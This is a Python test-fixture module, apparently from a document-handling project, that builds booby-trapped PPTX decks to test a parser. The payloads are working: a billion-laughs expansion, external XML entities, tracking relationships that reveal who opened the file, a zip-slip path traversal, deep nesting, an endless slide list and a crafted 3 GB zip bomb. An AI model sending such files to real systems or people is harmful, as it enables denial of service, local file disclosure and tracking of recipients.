"""Slides written to harm whoever opens them: each a whole PPTX file with one thing changed."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

from tests.milestones.hand_ins import pptx

SLIDE = "ppt/slides/slide1.xml"
RELATIONS = "ppt/slides/_rels/slide1.xml.rels"
DECK = "ppt/presentation.xml"


@cache
def parts() -> dict[str, bytes]:
    """The parts of a deck of six ordinary slides."""
    with zipfile.ZipFile(io.BytesIO(pptx())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def deck(changes: Mapping[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """The deck with some parts changed or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts(), **{n: b"" for n in changes if n not in parts()}}.items():
            change = changes.get(name, content)
            archive.writestr(name, change if isinstance(change, bytes) else change(content))
    return stream.getvalue()


def with_doctype(doctype: str, entity: str) -> Callable[[bytes], bytes]:
    """A document type before the slide, and an entity in the place of its title."""

    def change(xml: bytes) -> bytes:
        head, end, rest = xml.partition(b"?>")
        title, found = re.subn(rb"<a:t>[^<]*</a:t>", b"<a:t>&%s;</a:t>" % entity.encode(), rest, count=1)
        assert end and found
        return head + end + f"<!DOCTYPE x [{doctype}]>".encode() + title

    return change


def laughs() -> bytes:
    """A billion laughs: 3 GB of text out of some lines of entities."""
    lines = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return deck({SLIDE: with_doctype("".join(lines), "l9")})


def outside(address: str) -> bytes:
    """An entity that stands for another file or address."""
    return deck({SLIDE: with_doctype(f'<!ENTITY o SYSTEM "{address}">', "o")})


def external(address: str) -> bytes:
    """Pictures, a template and a slide that lie at an address: a program that follows them tells who opened the file, and when."""
    kinds = ("image", "hyperlink", "attachedTemplate", "slideLayout", "oleObject")
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    lines = [
        f'<Relationship Id="rIdX{n}" Type="{base}/{kind}" Target="{address}/{kind}" TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    ]
    return deck(
        {RELATIONS: lambda xml: xml.replace(b"</Relationships>", "".join(lines).encode() + b"</Relationships>")}
    )


def endless(times: int = 50_000) -> bytes:
    """A deck that shows its first slide again and again."""

    def change(xml: bytes) -> bytes:
        found = re.search(rb'<p:sldId [^>]*r:id="([^"]+)"/>', xml)
        assert found
        many = b"".join(b'<p:sldId id="%d" r:id="%s"/>' % (1000 + n, found[1]) for n in range(times))
        return xml.replace(b"</p:sldIdLst>", many + b"</p:sldIdLst>")

    return deck({DECK: change})


def deep(levels: int = 200_000) -> bytes:
    """Groups in groups, as deep as a parser's stack is not."""
    inside = b"<p:grpSp>" * levels + b"</p:grpSp>" * levels
    return deck({SLIDE: lambda xml: xml.replace(b"</p:spTree>", inside + b"</p:spTree>")})


def leading_out(target: str) -> bytes:
    """Parts whose names lead out of the file, and a relation that asks for one."""

    def change(xml: bytes) -> bytes:
        return xml.replace(b"../slideLayouts/slideLayout2.xml", target.encode())

    return deck({RELATIONS: change, f"../../../../..{target}": b"evil", target: b"evil", "..\\..\\evil.py": b"evil"})


def bomb(megabytes: int = 3_000) -> bytes:
    """A slide of so many megabytes of spaces in a file of three: one deflated megabyte, again and again."""
    opened, closed = parts()[SLIDE].rsplit(b"</p:sld>", 1)[0], b"</p:sld>"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(opened) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(closed) + packer.flush()
    data = head + one * megabytes + tail
    size = len(opened) + (megabytes << 20) + len(closed)
    return _with_raw_part(SLIDE, data, size)


def _with_raw_part(name: str, data: bytes, size: int) -> bytes:
    """The deck with a part whose deflated bytes are given: it is written empty, then its entry is made to point at them."""
    raw = deck({name: b""})
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        start = archive.start_dir
    title = name.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(data), size, len(title), 0) + title + data
    directory = bytearray(raw[start:])
    place = directory.index(title) - 46
    struct.pack_into("<H", directory, place + 10, 8)
    struct.pack_into("<3L", directory, place + 16, 0, len(data), size)
    struct.pack_into("<L", directory, place + 42, start)
    end = directory.rindex(b"PK\x05\x06")
    struct.pack_into("<L", directory, end + 16, start + len(local))
    return raw[:start] + local + bytes(directory)
